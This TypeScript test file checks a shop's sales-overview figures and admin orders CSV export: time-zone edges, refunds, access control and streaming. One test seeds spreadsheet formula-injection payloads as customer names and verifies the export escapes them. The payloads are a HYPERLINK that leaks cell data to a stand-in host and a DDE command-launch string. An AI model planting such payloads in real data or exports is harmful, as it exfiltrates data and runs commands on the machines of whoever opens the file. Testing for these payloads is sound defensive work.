/**
 * What sold: the overview's figures and the orders export, on a real database (PGlite, or PostgreSQL with
 * TEST_DATABASE_URL), with orders written at known times around the periods' edges, midnight in the shop's time zone
 * and the change to summer time, partial and failed refunds, cancelled orders and variants: every figure is asserted
 * exactly. The export runs as its route does: a Request and a browser's cookies in, a streamed CSV out.
 */
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { type AdminCaller, adminOf } from '@/features/admin/admin.server';
import { ORDERS_CSV_HEADER, type OrdersCsvDeps, ordersCsv, ordersCsvRoute } from '@/features/admin/sales/orders-csv.server';
import { salesPeriod } from '@/features/admin/sales/sales';
import { salesOverview, salesSummary, topSellers } from '@/features/admin/sales/sales.server';
import { orderNumber } from '@/features/orders/orders';
import type { CookieJar } from '@/server/auth/auth.port';
import { createBuiltInAuth } from '@/server/auth/builtin.server';
import { asService } from '@/server/db/roles.server';
import { browser } from './browser';
import { suiteDatabase, TEST_DATABASE_KIND } from './test-database';

const db = suiteDatabase();
const NY = 'America/New_York';
const SHOP = 'http://shop.test';
const PASSWORD = 'lavender-fields';
/** Tuesday 10 March 2026, 9 am in New York: summer time began on Sunday the 8th at 2 am. */
const NOW = new Date('2026-03-10T13:00:00Z');

interface Item {
  productId: number;
  name: string;
  sku: string;
  quantity: number;
  priceCents: number;
  color?: string;
  size?: string;
}
const scrubs = (quantity: number, color: string, size: string): Item => ({
  productId: 3,
  name: 'Clinical Scrubs',
  sku: 'AUR-SCRUBS',
  quantity,
  priceCents: 4500,
  color,
  size,
});
const soap = (quantity: number): Item => ({
  productId: 7,
  name: 'Kojic Acid Soap',
  sku: 'AUR-KOJIC',
  quantity,
  priceCents: 1200,
});
const hairOil = (quantity: number): Item => ({
  productId: 9,
  name: '12 Herb Hair Oil',
  sku: 'AUR-HERB',
  quantity,
  priceCents: 3000,
});

/** Writes an order as the checkout records one, at `at`, with its items; returns its id. */
async function place(
  at: string,
  email: string,
  items: Item[],
  { name = 'Ann Lee', shipping = 0, tax = 0, status = 'processing', code = null as string | null, discount = 0, waived = 0 } = {},
): Promise<string> {
  const subtotal = items.reduce((n, i) => n + i.quantity * i.priceCents, 0);
  return asService(db, async (tx) => {
    const [order] = await tx.query<{ id: string }>(
      `insert into public.orders (customer_email, customer_name, subtotal_cents, shipping_cents, tax_cents, total_cents,
         payment_intent_id, shipping_address, shipping_method, status, created_at, discount_code, discount_cents,
         shipping_discount_cents)
       values ($1, $2, $3, $4, $5, $6, $7, '{}'::jsonb, '{}'::jsonb, $8, $9::text::timestamptz, $10, $11, $12)
       returning id::text`,
      [
        email,
        name,
        subtotal,
        shipping,
        tax,
        subtotal - discount + shipping + tax,
        `pi_${randomUUID()}`,
        status,
        at,
        code,
        discount,
        waived,
      ],
    );
    if (!order) throw new Error('no order');
    // The discount is the first line's share (these orders' discounted ones have one line).
    for (const [n, i] of items.entries())
      await tx.query(
        `insert into public.order_items (order_id, product_id, product_name, product_category, price_cents, quantity,
           selected_color, selected_size, product_sku, image, discount_cents)
         values ($1, $2, $3, 'Test', $4, $5, $6, $7, $8, '/x.svg', $9)`,
        [order.id, i.productId, i.name, i.priceCents, i.quantity, i.color ?? null, i.size ?? null, i.sku, n === 0 ? discount : 0],
      );
    return order.id;
  });
}

async function refund(orderId: string, cents: number, status: 'pending' | 'succeeded' | 'failed' | 'canceled') {
  await asService(db, (tx) =>
    tx.query(`insert into public.order_refunds (refund_id, order_id, amount_cents, status) values ($1, $2, $3, $4)`, [
      `re_${randomUUID()}`,
      orderId,
      cents,
      status,
    ]),
  );
}

/** The orders of the scenario, by letter. */
const o: Record<string, string> = {};

beforeAll(async () => {
  // Frank's first order, long before either period.
  o.old = await place('2025-12-01T15:00:00Z', 'frank@example.com', [soap(1)], { name: 'Frank Oz' });
  // The period before (25 February from midnight, to 3 March at 9 am, EST).
  o.p1 = await place('2026-02-25T05:00:00Z', 'ann@example.com', [soap(1)], { shipping: 500 });
  o.p2 = await place('2026-03-03T13:59:59Z', 'eve@example.com', [soap(2)], { name: 'Eve Adams', shipping: 500 });
  await refund(o.p2, 400, 'succeeded');
  // 9 am on 3 March exactly, and 11:59 pm that night: after the period before, and before this one.
  o.p3 = await place('2026-03-03T14:00:00Z', 'hal@example.com', [soap(1)], { name: 'Hal Kay' });
  o.b = await place('2026-03-04T04:59:59Z', 'gus@example.com', [soap(1)], { name: 'Gus Grey' });
  // This period (4 March from midnight EST, to now).
  o.a = await place('2026-03-04T05:00:00Z', 'ann@example.com', [scrubs(2, 'blue', 'M'), soap(1)], {
    shipping: 800,
    tax: 612,
  });
  await refund(o.a, 2000, 'succeeded');
  await refund(o.a, 500, 'failed');
  await refund(o.a, 300, 'pending');
  // 1:30 am EST and 3:30 am EDT on 8 March: the same day, either side of the change.
  o.c = await place('2026-03-08T06:30:00Z', 'bob@example.com', [scrubs(1, 'navy', 'S')], { name: 'Bob Ray' });
  // D with 10% off by a code; I with its shipping waived by a free-shipping code.
  o.d = await place('2026-03-08T07:30:00Z', 'ANN@example.com', [soap(3)], { shipping: 500, code: 'SPRING10', discount: 360 });
  // 12:30 am EDT on 9 March (11:30 pm on the 8th by the winter offset).
  o.i = await place('2026-03-09T04:30:00Z', 'Frank@Example.com', [hairOil(1)], {
    name: 'Frank Oz',
    tax: 210,
    code: 'SHIPFREE',
    waived: 500,
  });
  o.e = await place('2026-03-10T12:59:59Z', 'cara@example.com', [scrubs(5, 'blue', 'M')], {
    name: 'Cara Wu',
    status: 'cancelled',
  });
  await refund(o.e, 22_500, 'succeeded');
  o.h = await place('2026-03-09T18:00:00Z', 'dan@example.com', [soap(1)], { name: 'Dan Ho', status: 'canceled' });
  // Now exactly: not yet in the period (it ends before now).
  o.f = await place('2026-03-10T13:00:00Z', 'ivy@example.com', [soap(10)], { name: 'Ivy Lu' });
}, 60_000);

const overview = (timeZone = NY, by: 'units' | 'revenue' = 'units') =>
  salesOverview((fn) => asService(db, fn), salesPeriod('7d', NOW, timeZone), timeZone, by);

describe(`the sales overview on ${TEST_DATABASE_KIND}`, () => {
  it('adds up the last 7 days in New York exactly: refunds, cancellations, customers', async () => {
    const { current, previous } = await overview();
    expect(current).toEqual({
      // A, C, D and I; not B (the 3rd in New York), E and H (cancelled) or F (placed at the period's end).
      orders: 4,
      // A: 116.12 less 20.00 and 3.00 (pending; the failed 5.00 gave nothing back); C 45.00; D 37.40; I 32.10.
      revenueCents: 9312 + 4500 + 3740 + 3210,
      // The items at their prices, what D's code took off them, and I's shipping, which its code waived.
      grossCents: 10_200 + 4500 + 3600 + 3000,
      discountCents: 360,
      netSalesCents: 10_200 + 4500 + 3600 + 3000 - 360,
      shippingDiscountCents: 500,
      shippingCents: 800 + 500,
      taxCents: 612 + 210,
      averageCents: Math.round(20_762 / 4),
      units: 3 + 1 + 3 + 1,
      // A's two that count, and E's, which was cancelled.
      refunds: 3,
      refundedCents: 2300 + 22_500,
      cancelled: 2,
      // Ann (A and D, in two spellings), Bob, Frank; only Bob is new (Ann ordered in the period before, Frank in December).
      customers: 3,
      newCustomers: 1,
    });
    expect(previous).toEqual({
      orders: 2,
      revenueCents: 1700 + 2900 - 400,
      grossCents: 1200 + 2400,
      discountCents: 0,
      netSalesCents: 1200 + 2400,
      shippingDiscountCents: 0,
      shippingCents: 1000,
      taxCents: 0,
      averageCents: 2100,
      units: 3,
      refunds: 1,
      refundedCents: 400,
      cancelled: 0,
      customers: 2,
      newCustomers: 2,
    });
  });

  it('puts each order on its day in the shop’s time zone, every day of the span listed', async () => {
    const { days, previousDays } = await overview();
    expect(days.map((d) => d.day)).toEqual([
      '2026-03-04',
      '2026-03-05',
      '2026-03-06',
      '2026-03-07',
      '2026-03-08',
      '2026-03-09',
      '2026-03-10',
    ]);
    const on = (day: string) => days.find((d) => d.day === day);
    expect(on('2026-03-04')).toEqual({ day: '2026-03-04', orders: 1, revenueCents: 9312, units: 3 });
    // The 23-hour day: 1:30 am EST and 3:30 am EDT.
    expect(on('2026-03-08')).toEqual({ day: '2026-03-08', orders: 2, revenueCents: 8240, units: 4 });
    expect(on('2026-03-09')).toEqual({ day: '2026-03-09', orders: 1, revenueCents: 3210, units: 1 });
    expect(on('2026-03-10')).toEqual({ day: '2026-03-10', orders: 0, revenueCents: 0, units: 0 });
    expect(days.reduce((n, d) => n + d.revenueCents, 0)).toBe(20_762);
    expect(previousDays).toHaveLength(7);
    expect(previousDays.filter((d) => d.orders > 0)).toEqual([
      { day: '2026-02-25', orders: 1, revenueCents: 1700, units: 1 },
      { day: '2026-03-03', orders: 1, revenueCents: 2500, units: 2 },
    ]);
  });

  it('moves the edges with the time zone: in UTC, Gus’s order is this period’s and Eve’s after the period before', async () => {
    const { current, previous, days } = await overview('UTC');
    // 9 am UTC now: the period starts at midnight UTC on the 4th, so B (4:59 am UTC on the 4th) is in it.
    expect(current.orders).toBe(5);
    expect(current.revenueCents).toBe(20_762 + 1200);
    expect(current.newCustomers).toBe(2);
    // I, at 4:30 am UTC on the 9th, is on the 9th here too; C and D on the 8th.
    expect(days.find((d) => d.day === '2026-03-04')?.orders).toBe(2);
    // The period before ends at 1 pm UTC on the 3rd: P2, at 1:59 pm, is not in it.
    expect(previous.orders).toBe(1);
    expect(previous.revenueCents).toBe(1700);
  });

  it('lists the best sellers by units or by sales, and variants by colour and size, cancelled orders left out', async () => {
    const byUnits = await overview();
    expect(byUnits.products).toEqual([
      { productId: 7, name: 'Kojic Acid Soap', variant: null, units: 4, salesCents: 4800 },
      { productId: 3, name: 'Clinical Scrubs', variant: null, units: 3, salesCents: 13_500 },
      { productId: 9, name: '12 Herb Hair Oil', variant: null, units: 1, salesCents: 3000 },
    ]);
    expect(byUnits.variants).toEqual([
      { productId: 3, name: 'Clinical Scrubs', variant: 'blue, M', units: 2, salesCents: 9000 },
      { productId: 3, name: 'Clinical Scrubs', variant: 'navy, S', units: 1, salesCents: 4500 },
    ]);
    const byRevenue = await overview(NY, 'revenue');
    expect(byRevenue.products.map((p) => [p.productId, p.salesCents])).toEqual([
      [3, 13_500],
      [7, 4800],
      [9, 3000],
    ]);
    const period = salesPeriod('7d', NOW, NY);
    const top = await asService(db, (tx) => topSellers(tx, period.current, 'units', 1));
    expect(top.products.map((p) => p.productId)).toEqual([7]);
  });

  it('answers the admin overview’s card with the same figures', async () => {
    const summary = await asService(db, (tx) => salesSummary(tx, NOW, NY));
    expect(summary.current.revenueCents).toBe(20_762);
    expect(summary.previous.revenueCents).toBe(4200);
    expect(summary.previousLabel).toBe('the 7 days before');
  });
});

// The export -----------------------------------------------------------------------------------------------------------

const auth = () => createBuiltInAuth({ db, secureCookies: false });
let n = 0;
async function signedIn(name: string): Promise<{ email: string; jar: CookieJar }> {
  const email = `${name}.${++n}.${Date.now()}@example.com`;
  await auth().signUp({ email, password: PASSWORD, firstName: 'Ann', lastName: 'Lee' }, { origin: SHOP });
  await asService(db, (tx) => tx.query(`update auth.users set email_confirmed_at = now() where email = $1`, [email]));
  const jar = browser();
  const login = await auth().signIn({ email, password: PASSWORD }, jar);
  if (!login.ok) throw new Error(login.error.message);
  return { email, jar };
}

let people: Promise<{ admin: { email: string; jar: CookieJar }; shopper: { jar: CookieJar }; deps: OrdersCsvDeps }> | undefined;
function accounts() {
  people ??= (async () => {
    const admin = await signedIn('owner');
    const shopper = await signedIn('shopper');
    return { admin, shopper, deps: { db, auth: auth(), adminEmails: [admin.email], timeZone: NY } };
  })();
  return people;
}

const get = (query: string, headers: Record<string, string> = {}) =>
  new Request(`${SHOP}/api/admin/orders.csv${query}`, { headers });

async function exportCsv(jar: CookieJar, query = '', headers: Record<string, string> = {}) {
  const res = await ordersCsvRoute((await accounts()).deps, jar, get(query, headers), NOW);
  const text = await res.text();
  return {
    status: res.status,
    headers: res.headers,
    text,
    body: res.headers.get('content-type')?.includes('json') ? JSON.parse(text) : null,
  };
}

const exports = async () =>
  (
    await asService(db, (tx) =>
      tx.query<{ admin_email: string; after: string }>(
        `select admin_email, after::text as after from public.admin_actions where action = 'orders.export' order by id`,
      ),
    )
  ).map((r) => ({ admin: r.admin_email, after: JSON.parse(r.after) }));

/** RFC 4180 read back: the rows, each a list of cells (quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) throw new Error(`the CSV does not end with CRLF: ${JSON.stringify(cell)}`);
  return rows;
}

describe(`GET /api/admin/orders.csv on ${TEST_DATABASE_KIND}`, { timeout: 30_000 }, () => {
  it('answers a guest and a shopper 404, exporting nothing (a request from another site: tests/reliability/api-methods.test.ts)', async () => {
    const { shopper, admin } = await accounts();
    const before = await exports();
    for (const [who, jar] of [
      ['guest', browser()],
      ['shopper', shopper.jar],
    ] as const) {
      for (const query of ['', '?period=7d', '?from=bad']) {
        const res = await exportCsv(jar, query);
        expect(res, `${who} ${query}`).toMatchObject({
          status: 404,
          body: { error: { code: 'not_found', message: 'Not found.' } },
        });
        expect(res.text).not.toContain('ann@example.com');
      }
    }
    expect(await exports()).toEqual(before);
    // HEAD tells what a download would be, and exports nothing.
    const head = await ordersCsvRoute(
      (await accounts()).deps,
      admin.jar,
      new Request(`${SHOP}/api/admin/orders.csv?period=7d`, { method: 'HEAD' }),
      NOW,
    );
    expect(head.status).toBe(200);
    expect(head.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(await head.text()).toBe('');
    expect(await exports()).toEqual(before);
    expect((await exportCsv(admin.jar, '?period=7d')).status).toBe(200);
  });

  it('refuses a range it cannot read with the reason, exporting nothing', async () => {
    const { admin } = await accounts();
    const before = await exports();
    for (const [query, message] of [
      ['?period=week', 'The period must be one of 7d, 30d, 90d, ytd.'],
      ['?from=2026-02-30', 'from must be a day written YYYY-MM-DD, such as 2026-11-25.'],
      ['?from=2026-03-09&to=2026-03-08', 'The range ends before it starts: to is earlier than from.'],
      ['?period=7d&to=2026-03-08', 'Give either a period or from and to, not both.'],
    ]) {
      const res = await exportCsv(admin.jar, query);
      expect(res, query).toMatchObject({ status: 400, body: { error: { code: 'invalid_request', message } } });
    }
    expect(await exports()).toEqual(before);
  });

  it('writes one row per order, oldest first, in the shop’s time zone, amounts in dollars; records the export', async () => {
    const { admin } = await accounts();
    const res = await exportCsv(admin.jar, '?period=7d');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="aurelia-orders-2026-03-04-to-2026-03-10.csv"');
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const rows = parseCsv(res.text);
    expect(rows[0]).toEqual([...ORDERS_CSV_HEADER]);
    // The period's days, whole: today's later order (F) too; cancelled ones with their status.
    expect(rows.slice(1).map((r) => r[1])).toEqual([o.a, o.c, o.d, o.i, o.h, o.e, o.f]);
    expect(rows[1]).toEqual([
      orderNumber(o.a ?? ''),
      o.a,
      '2026-03-04T00:00:00-05:00',
      '2026-03-04',
      'Processing',
      'Ann Lee',
      'ann@example.com',
      'guest',
      '2 x Clinical Scrubs (blue, M) [AUR-SCRUBS] @ 45.00; 1 x Kojic Acid Soap [AUR-KOJIC] @ 12.00',
      '3',
      '102.00',
      '',
      '0.00',
      '102.00',
      '8.00',
      '0.00',
      '6.12',
      '116.12',
      '23.00',
      '93.12',
      '',
    ]);
    // After the change to summer time the offset is -04:00.
    expect(rows[3]?.slice(2, 4)).toEqual(['2026-03-08T03:30:00-04:00', '2026-03-08']);
    expect(rows[4]?.slice(2, 4)).toEqual(['2026-03-09T00:30:00-04:00', '2026-03-09']);
    // Gross, the code and its discount, net sales, shipping and the shipping a code waived: total = net sales +
    // shipping + tax. The line's share of the discount is in the items' cell.
    expect(rows.find((r) => r[1] === o.d)?.slice(8)).toEqual([
      '3 x Kojic Acid Soap [AUR-KOJIC] @ 12.00 less 3.60',
      '3',
      '36.00',
      'SPRING10',
      '3.60',
      '32.40',
      '5.00',
      '0.00',
      '0.00',
      '37.40',
      '0.00',
      '37.40',
      '',
    ]);
    expect(rows.find((r) => r[1] === o.i)?.slice(10)).toEqual([
      '30.00',
      'SHIPFREE',
      '0.00',
      '30.00',
      '0.00',
      '5.00',
      '2.10',
      '32.10',
      '0.00',
      '32.10',
      '',
    ]);
    const cancelled = rows.find((r) => r[1] === o.e);
    expect(cancelled?.slice(4, 5)).toEqual(['Cancelled']);
    expect(cancelled?.slice(10)).toEqual([
      '225.00',
      '',
      '0.00',
      '225.00',
      '0.00',
      '0.00',
      '0.00',
      '225.00',
      '225.00',
      '0.00',
      '',
    ]);
    expect((await exports()).at(-1)).toEqual({
      admin: admin.email,
      after: { rows: 7, from: '2026-03-04', to: '2026-03-10' },
    });

    // Days from and to, the shop's: 8 March is C and D, not I (12:30 am on the 9th).
    const day = parseCsv((await exportCsv(admin.jar, '?from=2026-03-08&to=2026-03-08')).text);
    expect(day.slice(1).map((r) => r[1])).toEqual([o.c, o.d]);
    // Every order, with no range.
    const all = parseCsv((await exportCsv(admin.jar)).text);
    expect(all.length - 1).toBeGreaterThanOrEqual(Object.keys(o).length);
    expect(all[1]?.[1]).toBe(o.old);
  });

  it('writes what a customer typed as text, never as a formula', async () => {
    const { admin } = await accounts();
    const evil = await place('2026-01-15T12:00:00Z', '@SUM(1+1)@example.com', [soap(1)], {
      name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    });
    const tab = await place('2026-01-15T12:01:00Z', '+15551234@example.com', [soap(1)], { name: '\t=cmd|"/c calc"!A1' });
    const dash = await place('2026-01-15T12:02:00Z', 'minus@example.com', [soap(1)], { name: '-2+3' });
    const res = await exportCsv(admin.jar, '?from=2026-01-15&to=2026-01-15');
    const rows = parseCsv(res.text);
    expect(rows.slice(1).map((r) => r[1])).toEqual([evil, tab, dash]);
    expect(rows[1]?.slice(5, 7)).toEqual(['\'=HYPERLINK("http://evil.test/?"&A1,"Click")', "'@SUM(1+1)@example.com"]);
    expect(rows[2]?.slice(5, 7)).toEqual(['\'\t=cmd|"/c calc"!A1', "'+15551234@example.com"]);
    expect(rows[3]?.[5]).toBe("'-2+3");
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('streams a page at a time: each page one short query, read at most one page ahead of the reader', async () => {
    const { admin, deps } = await accounts();
    const me = await adminOf(deps, admin.jar);
    if (!me) throw new Error('the admin is no admin');
    let runs = 0;
    const counted: AdminCaller = {
      admin: me.admin,
      run: (fn) => {
        runs++;
        return me.run(fn);
      },
    };
    const range = { from: '2026-03-04', to: '2026-03-10' };
    const stream = await ordersCsv(counted, range, NY, 2);
    // Counting the rows and recording the export, before the first byte.
    expect(runs).toBe(1);
    const reader = stream.getReader();
    const decoder = new TextDecoder();
    const chunks: string[] = [];
    for (;;) {
      const next = await reader.read();
      if (next.done) break;
      chunks.push(decoder.decode(next.value));
      // The stream keeps one chunk queued: a page is read when the one before it has been taken, not sooner.
      expect(runs - 1, `after ${chunks.length} chunks`).toBeLessThanOrEqual(chunks.length);
    }
    expect(chunks[0]).toBe(`${ORDERS_CSV_HEADER.join(',')}\r\n`);
    // 7 orders in pages of 2: four pages, four queries, a chunk each.
    expect(chunks.slice(1).map((c) => c.split('\r\n').filter(Boolean).length)).toEqual([2, 2, 2, 1]);
    expect(runs).toBe(1 + 4);
    const whole = await new Response(await ordersCsv(me, range, NY)).text();
    expect(chunks.join('')).toBe(whole);
  });
});
